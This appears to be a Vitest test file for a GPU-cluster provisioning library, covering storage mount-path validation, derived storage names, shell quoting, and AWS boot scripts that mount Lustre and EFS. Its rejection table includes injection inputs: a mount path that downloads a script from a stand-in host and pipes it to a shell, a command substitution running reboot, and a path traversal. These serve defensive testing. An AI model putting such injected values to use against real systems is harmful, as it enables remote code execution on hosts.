/**
 * A storage entry's mount path is a plain path outside the system directories (it reaches a root boot script and a
 * pod spec), and its stable name, given or derived from the mount path, is unique.
 */
import { describe, expect, it } from "vitest";
import { SpecError, TrainingCluster, planCluster, validate, type ClusterSpec } from "gpu-cluster";
import { storageNameFromPath } from "../lib/spec/storage-identity.js";
import { mountLines, shellQuote } from "../lib/clouds/shared/bootstrap.js";

const train: ClusterSpec = { cloud: "aws", region: "us-east-1", gpu: { model: "H100", count: 64 } };
const nfs = (extra: Record<string, unknown>) => ({ ...train, storage: [{ kind: "nfs", capacityTiB: 1, ...extra }] });

/** [what is wrong, the spec, the field the error must name, a phrase the message must contain] */
const BAD: [string, unknown, string, RegExp][] = [
  ["a shell command in the mount path", nfs({ mountPath: "/data; curl https://x.example/i | sh #" }), "storage[0].mountPath", /not a plain absolute path/],
  ["command substitution", nfs({ mountPath: "/data$(reboot)" }), "storage[0].mountPath", /not a plain absolute path/],
  ["a quote", nfs({ mountPath: "/data'" }), "storage[0].mountPath", /not a plain absolute path/],
  ["a space", nfs({ mountPath: "/my data" }), "storage[0].mountPath", /not a plain absolute path/],
  ["a relative path", nfs({ mountPath: "data" }), "storage[0].mountPath", /not a plain absolute path/],
  ["a parent segment", nfs({ mountPath: "/data/../etc" }), "storage[0].mountPath", /not a plain absolute path/],
  ["a trailing slash", nfs({ mountPath: "/data/" }), "storage[0].mountPath", /not a plain absolute path/],
  ["the root", nfs({ mountPath: "/" }), "storage[0].mountPath", /not a plain absolute path/],
  ["/etc", nfs({ mountPath: "/etc" }), "storage[0].mountPath", /hide the system directory \/etc/],
  ["below /usr", nfs({ mountPath: "/usr/local/nvidia" }), "storage[0].mountPath", /hide the system directory \/usr/],
  ["NCCL's shared memory", nfs({ mountPath: "/dev/shm" }), "storage[0].mountPath", /hide the system directory \/dev/],
  ["/tmp itself", nfs({ mountPath: "/tmp" }), "storage[0].mountPath", /hide the system directory \/tmp/],
  ["an over-long path", nfs({ mountPath: `/${"a".repeat(300)}` }), "storage[0].mountPath", /300|301 characters/],
  ["a name with capitals", nfs({ name: "Datasets" }), "storage[0].name", /cannot name storage resources/],
  ["a name ending in a hyphen", nfs({ name: "data-" }), "storage[0].name", /cannot name storage resources/],
  ["an over-long name", nfs({ name: "a".repeat(25) }), "storage[0].name", /at most 24 characters/],
  ["deletionProtection not a boolean", nfs({ deletionProtection: "no" }), "storage[0].deletionProtection", /true or false/],
  [
    "two buckets on the default path",
    { ...train, storage: [{ kind: "object", capacityTiB: 1 }, { kind: "object", capacityTiB: 2 }] },
    "storage[1].name",
    /'mnt-object' \(from mountPath '\/mnt\/object'\) is already the name of storage\[0\]/,
  ],
  [
    "one name twice",
    { ...train, storage: [{ kind: "nfs", capacityTiB: 1, name: "data" }, { kind: "object", capacityTiB: 2, name: "data" }] },
    "storage[1].name",
    /'data' is already the name of storage\[0\]/,
  ],
];

describe("storage identity and mount paths", () => {
  it.each(BAD)("%s is a SpecError naming its field", (_what, spec, path, message) => {
    let caught: unknown;
    try {
      validate(spec as ClusterSpec);
    } catch (err) {
      caught = err;
    }
    expect(caught).toBeInstanceOf(SpecError);
    expect((caught as SpecError).path).toBe(path);
    expect((caught as SpecError).message).toMatch(message);
    expect((caught as SpecError).hint).not.toBe("");
  });

  it("names each entry after its mount path, or the name it is given, never its position", () => {
    const plan = planCluster({
      ...train,
      storage: [
        { kind: "object", capacityTiB: 1 },
        { kind: "nfs", capacityTiB: 1, mountPath: "/data" },
        { kind: "nfs", capacityTiB: 1, mountPath: "/mnt/Check_Points.v2" },
        { kind: "object", capacityTiB: 1, mountPath: "/mnt/object2", name: "checkpoints" },
        { kind: "nfs", capacityTiB: 1, mountPath: "/home", deletionProtection: false },
      ],
    });
    expect(plan.storage.map((s) => s.name)).toEqual(["mnt-object", "data", "mnt-check-points-v2", "checkpoints", "home"]);
    expect(plan.storage.map((s) => s.deletionProtection)).toEqual([true, true, true, true, false]);
  });

  it("keeps long derived names within 24 characters and apart by a hash of the whole path", () => {
    const a = storageNameFromPath("/mnt/training-data/checkpoints/run-a");
    const b = storageNameFromPath("/mnt/training-data/checkpoints/run-b");
    expect(a).toMatch(/^mnt-training-da-[0-9a-f]{8}$/);
    expect(a).toHaveLength(24);
    expect(a).not.toBe(b);
    expect(storageNameFromPath("/1")).toBe("s-1");
  });

  it("quotes every word a mount line takes from outside, and fails the bootstrap loudly when the mount fails", () => {
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(mountLines({ type: "nfs4", options: "hard", source: "fs-1.efs.us-east-1.amazonaws.com:/", mountPath: "/data" })).toEqual([
      "mkdir -p '/data'",
      "if ! mountpoint -q '/data'; then",
      "mount -t nfs4 -o hard 'fs-1.efs.us-east-1.amazonaws.com:/' '/data' || fail 'nfs4 mount of fs-1.efs.us-east-1.amazonaws.com:/ at /data failed'",
      "fi",
      // In fstab once, with _netdev and nofail (fstab(5)), so the mount survives a reboot.
      "grep -qsF ' /data nfs4 ' /etc/fstab || echo 'fs-1.efs.us-east-1.amazonaws.com:/ /data nfs4 hard,_netdev,nofail 0 0' >> /etc/fstab",
    ]);
  });
});

describe("boot scripts that mount storage", () => {
  const storage = [
    { kind: "lustre", capacityTiB: 12, tier: "persistent-125", mountPath: "/data" },
    { kind: "nfs", capacityTiB: 1, mountPath: "/home" },
    // Not /scratch: AWS VMs mount the instance store there (lib/spec/storage-identity.ts VM_SCRATCH_MOUNTS).
    { kind: "block", capacityTiB: 1, mountPath: "/mnt/scratch" },
  ] as const;

  it("AWS: mounts again at every boot (user data runs once), and every script parses as bash", async () => {
    const { run, one, ofType } = await import("./helpers/offline.js");
    const result = await run(() => new TrainingCluster("boot", { ...train, gpu: { model: "H100", nodes: 2 }, storage: [...storage] }));
    expect(result.error).toBeUndefined();
    // Above 16 KiB the script is gzipped (lib/clouds/aws/launch-template.ts encodeUserData).
    const raw = Buffer.from(one(result, "aws:ec2/launchTemplate:LaunchTemplate").inputs.userData, "base64");
    const userData = (raw[0] === 0x1f && raw[1] === 0x8b ? (require("node:zlib") as typeof import("node:zlib")).gunzipSync(raw) : raw).toString();
    expect(userData).toContain("cat > /var/lib/cloud/scripts/per-boot/gpu-cluster-mounts.sh <<'MOUNTS'");
    expect(userData).toContain("/var/lib/cloud/scripts/per-boot/gpu-cluster-mounts.sh || fail 'storage mounts failed");
    const perBoot = userData.split("<<'MOUNTS'\n")[1]!.split("\nMOUNTS\n")[0]!;
    expect(perBoot).toContain("mount -t lustre -o relatime,flock 'boot-lustre-data.offline.invalid@tcp:/offline' '/data' || fail");
    // EFS over TLS with the EFS mount helper (https://docs.aws.amazon.com/efs/latest/ug/efs-mount-helper.html, read
    // 2026-11-30), built from aws/efs-utils v1.36.0 (pure Python, build-deb.sh packs files with ar) before the mount,
    // the tag checked against its commit; never a plain nfs4 mount.
    expect(perBoot).toContain("git clone -q --depth 1 --branch v1.36.0 https://github.com/aws/efs-utils /var/lib/gpu-cluster/efs-utils");
    expect(perBoot).toContain('[ "$(git -C /var/lib/gpu-cluster/efs-utils rev-parse HEAD)" = c87d19f3e1db26532f09a7fed338347aacb90e10 ]');
    expect(perBoot).toContain("install -y nfs-common stunnel4 binutils git");
    expect(perBoot).toContain("install -y /var/lib/gpu-cluster/efs-utils/build/amazon-efs-utils-1.36.0-1_all.deb");
    expect(perBoot.indexOf("amazon-efs-utils-1.36.0-1_all.deb")).toBeLessThan(perBoot.indexOf("mount -t efs"));
    expect(perBoot).toContain("[ -x /sbin/mount.efs ] || fail 'installing the EFS client (amazon-efs-utils 1.36.0): /sbin/mount.efs is missing after the install'");
    expect(perBoot).toContain("mount -t efs -o tls 'boot-nfs-home.offline.invalid:/' '/home' || fail");
    expect(perBoot).toContain("echo 'boot-nfs-home.offline.invalid:/ /home efs tls,_netdev,nofail 0 0' >> /etc/fstab");
    expect(perBoot).not.toContain("nfs4");
    // No Distributor association (it would queue behind the node's other associations, and lists Ubuntu 16.04-20.04 only).
    expect(ofType(result, "aws:ssm/association:Association").filter((a) => a.inputs.name === "AWS-ConfigureAWSPackage")).toEqual([]);
    for (const script of [userData, perBoot]) expect(bashSyntax(script)).toBe("");
  });

  it("refuses a component and storage name that together exceed what a bucket name holds", async () => {
    const { run } = await import("./helpers/offline.js");
    const long = "a-component-name-of-thirty-six-chars";
    const result = await run(() => new TrainingCluster(long, { ...train, gpu: { model: "H100", nodes: 2 }, storage: [{ kind: "object", capacityTiB: 1, name: "checkpoints-of-the-run" }] }));
    expect(result.error).toMatchObject({ name: "SpecError", path: "storage[0].name" });
    expect(String(result.error)).toMatch(/66 characters/);
    expect(result.resources).toHaveLength(0);
  });
});

/** `bash -n` over a script: "" when it parses. */
function bashSyntax(script: string): string {
  const { spawnSync } = require("node:child_process") as typeof import("node:child_process");
  const result = spawnSync("bash", ["-n"], { input: script, encoding: "utf8" });
  return result.status === 0 ? "" : result.stderr;
}
